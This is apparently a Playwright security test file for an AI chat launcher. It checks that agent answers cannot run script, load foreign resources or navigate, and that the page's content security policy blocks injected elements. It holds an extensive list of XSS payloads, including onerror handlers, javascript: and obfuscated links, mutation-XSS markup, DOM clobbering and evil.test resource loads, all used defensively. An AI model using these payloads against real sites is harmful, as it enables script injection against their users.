import type { Page } from 'playwright-core';
import { expect, it } from 'vitest';
import { openSignedIn, useBrowser } from '../support/browser.ts';
import { type ForeignSite, startForeignSite } from '../support/foreign-site.ts';
import { freshHome, writeHomeFile } from '../support/home.ts';
import { startLauncher } from '../support/processes.ts';

const { newPerson } = useBrowser();

const TOKEN = 'launcher-token-for-tests';
const RUN = 'window.hasRun=1';
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`;
const HTML = `data:text/html,<script>${RUN}</script>`;

/** What agents, or those whose pages they have read, may have an answer contain. */
const hostile = (foreign: string): string[] => [
  ...[
    `<script>${RUN}</script>`,
    `<img src=x onerror="${RUN}">`,
    SVG,
    `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  ],
  ...[`<iframe src="${HTML}"></iframe>`, `<object data="${HTML}"></object>`, `<embed src="${foreign}/embed">`],
  ...[`<style>@import url(${foreign}/style);*{background:url(${foreign}/background)}</style>`],
  ...[`<link rel=stylesheet href="${foreign}/link"><base href="${foreign}/">`],
  ...[`<meta http-equiv="refresh" content="0;url=${foreign}/refresh">`, `<body onload="${RUN}">`],
  ...[`<form action="${foreign}/form"><button autofocus onfocus="${RUN}">x</button></form>`],
  ...[`<details open ontoggle="${RUN}">x</details>`, `<video><source onerror="${RUN}"></video>`],
  ...[`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`],
  ...[
    `<a id="root" name="cookie" href="javascript:${RUN}">clobbered</a>`,
    `<template><script>${RUN}</script></template>`,
  ],
  ...[`[script](javascript:${RUN})`, `[script](java&#x73;cript:${RUN})`, `[tab](java\tscript:${RUN})`],
  ...[`[data](${HTML.replaceAll(' ', '%20')})`, `[out](/logout)`, `[scheme](//evil.test/)`, `<javascript:${RUN}>`],
  ...[`[file](file:///etc/passwd)`, `[quote](https://evil.test/"onmouseover="${RUN})`, `![x](javascript:${RUN})`],
  ...[`![svg](data:image/svg+xml;base64,${btoa(SVG)})`, `![seen](${foreign}/picture)`, `![x](x"onerror="${RUN})`],
  ...[`[reference][r]\n\n[r]: javascript:${RUN} "title"`, `| <img src=x onerror=${RUN}> |\n|---|\n| ${SVG} |`],
  ...[
    `\`\`\`html"><script>${RUN}</script>\n<script>${RUN}</script>\n\`\`\``,
    `\`\`\`mermaid\nclick a call ${RUN}\n\`\`\``,
  ],
  ...['$$\\href{javascript:1}{x}$$', `# <img src=x onerror=${RUN}>`, `[honest](${foreign}/followed?a=1)`],
];

/** A launcher whose agent says what it is told, and a site that notices whatever is fetched from it. */
async function aChat(): Promise<{ page: Page; foreign: string; site: ForeignSite; asked: string[] }> {
  const site = await startForeignSite();
  const foreign = `http://evil.test:${site.port}`;
  const home = freshHome();
  const say = { model_name: 'hostile', model: 'command/node', command: process.execPath };
  const answer = hostile(foreign).join('\n\n');
  writeHomeFile(home, 'config.json', {
    agents: { defaults: { model_name: 'hostile' } },
    model_list: [{ ...say, args: ['-e', 'process.stdout.write(process.argv[1])', answer] }],
  });
  const launcher = await startLauncher({ home, env: { PICOCLAW_LAUNCHER_TOKEN: TOKEN } });
  const person = await newPerson();
  const asked: string[] = [];
  person.on('request', (request) => {
    if (!request.url().startsWith(launcher.url) && !request.url().startsWith('data:image/')) asked.push(request.url());
  });
  // What the page complains of, a breach of its content security policy among it, fails the test.
  const page = await openSignedIn(person, { url: launcher.url, token: TOKEN, path: '/' });
  page.on('dialog', (dialog) => dialog.dismiss());
  await page.getByText('Connected', { exact: true }).waitFor();
  return { page, foreign, site, asked };
}

const hasRun = (page: Page): Promise<unknown> => page.evaluate(() => (window as { hasRun?: unknown }).hasRun);

it('an answer runs nothing, loads nothing and leads nowhere unasked, whatever is in it', async () => {
  const { page, foreign, site, asked } = await aChat();
  // The person’s own words are shown too: in the conversation, and as the name of the chat.
  await page.getByLabel('Message', { exact: true }).fill(`<img src=x onerror="${RUN}"> ${hostile(foreign)[0]}`);
  await page.getByRole('button', { name: 'Send', exact: true }).click();
  const conversation = page.getByRole('region', { name: 'Conversation' });
  const link = conversation.getByRole('link', { name: 'honest' });
  await link.waitFor();
  for (const isReloaded of [false, true]) {
    if (isReloaded) await page.reload();
    await link.waitFor();
    await page.getByRole('navigation', { name: 'Chats' }).getByRole('link').first().waitFor();
    const forbidden =
      'script,style,iframe,object,embed,form,base,meta,link,svg script,img[src*="evil"],img[src*="svg"]';
    expect(await conversation.locator(forbidden).count()).toBe(0);
    const links = await conversation
      .locator('a')
      .evaluateAll((all) =>
        all.map((a) => [(a as HTMLAnchorElement).protocol, a.getAttribute('target'), a.getAttribute('rel')].join(' ')),
      );
    expect([...new Set(links)].sort()).toEqual(
      ['http:', 'https:'].map((protocol) => `${protocol} _blank noopener noreferrer`),
    );
    const handlers = await conversation.evaluate((element) =>
      [...element.querySelectorAll('*')].flatMap((one) =>
        one.getAttributeNames().filter((name) => name.startsWith('on')),
      ),
    );
    expect(handlers).toEqual([]);
    expect(await hasRun(page)).toBeUndefined();
  }
  expect(asked).toEqual([]);

  const opening = page.context().waitForEvent('page');
  await link.click();
  const opened = await opening;
  await opened.waitForLoadState();
  expect(await opened.evaluate(() => [window.opener, document.referrer])).toEqual([null, '']);
  expect(site.requests.map(({ url, headers }) => [url, headers.referer])).toContainEqual(['/followed?a=1', undefined]);
});

it('were there a hole all the same, the policy of the page would let nothing through it', async () => {
  const env = { PICOCLAW_LAUNCHER_TOKEN: TOKEN };
  const launcher = await startLauncher({ home: freshHome(), args: ['--external-gateway'], env });
  const site = await startForeignSite();
  const foreign = `http://evil.test:${site.port}`;
  const page = await (await newPerson()).newPage();
  await page.goto(`${launcher.url}/login`);
  await page.getByLabel('Launcher token', { exact: true }).waitFor();
  const outcomes = await page.evaluate(
    async ({ run, html, other }) => {
      const breaches = new Set<string>();
      Object.assign(window, { breaches });
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        breaches.add(effectiveDirective),
      );
      const add = (name: string, attributes: Record<string, string>, text = '') => {
        const element = document.createElement(name);
        for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value);
        element.textContent = text;
        return document.body.appendChild(element);
      };
      add('script', {}, run);
      add('script', { src: `${other}/script.js` });
      add('script', { src: `data:text/javascript,${run}` });
      add('img', { src: 'x:', onerror: run });
      add('img', { src: `${other}/picture` });
      add('style', {}, 'body { opacity: 0 }');
      add('p', { style: 'opacity: 0' });
      add('link', { rel: 'stylesheet', href: `${other}/style.css` });
      add('iframe', { src: html });
      add('iframe', { src: `${other}/frame` });
      add('object', { data: `${other}/object` });
      add('video', { src: `${other}/video` });
      add('base', { href: `${other}/` });
      add('a', { href: `javascript:${run}` }).click();
      (add('form', { action: `${other}/form` }) as HTMLFormElement).submit();
      // The test's own call is let through; what it sets off afterwards is the page's.
      const evaluate = () =>
        new Promise<void>((resolve, reject) => {
          setTimeout(() => {
            try {
              resolve(new Function(run)());
            } catch (error) {
              reject(error);
            }
          });
        });
      const attempts = [evaluate, () => fetch(`${other}/fetch`), async () => new Worker(`data:,${run}`)];
      const outcomes = await Promise.allSettled(attempts.map((attempt) => attempt()));
      navigator.sendBeacon(`${other}/beacon`, 'x');
      const socket = new WebSocket(`${other.replace('http', 'ws')}/socket`);
      await new Promise((resolve) => socket.addEventListener('error', resolve));
      return outcomes.map(({ status }) => status);
    },
    { run: RUN, html: HTML, other: foreign },
  );
  const breaches = () => page.evaluate(() => [...(window as unknown as { breaches: Set<string> }).breaches].sort());
  await expect
    .poll(breaches)
    .toEqual([
      ...['connect-src', 'form-action', 'frame-src', 'img-src', 'media-src', 'object-src', 'script-src'],
      ...['script-src-attr', 'script-src-elem', 'style-src-attr', 'style-src-elem', 'worker-src'],
    ]);
  expect(outcomes.slice(0, 2)).toEqual(['rejected', 'rejected']);
  expect(await hasRun(page)).toBeUndefined();
  expect(await page.evaluate(() => document.baseURI)).toBe(`${launcher.url}/`);
  expect(await page.evaluate(() => getComputedStyle(document.body).opacity)).toBe('1');
  expect(site.requests).toEqual([]);
});
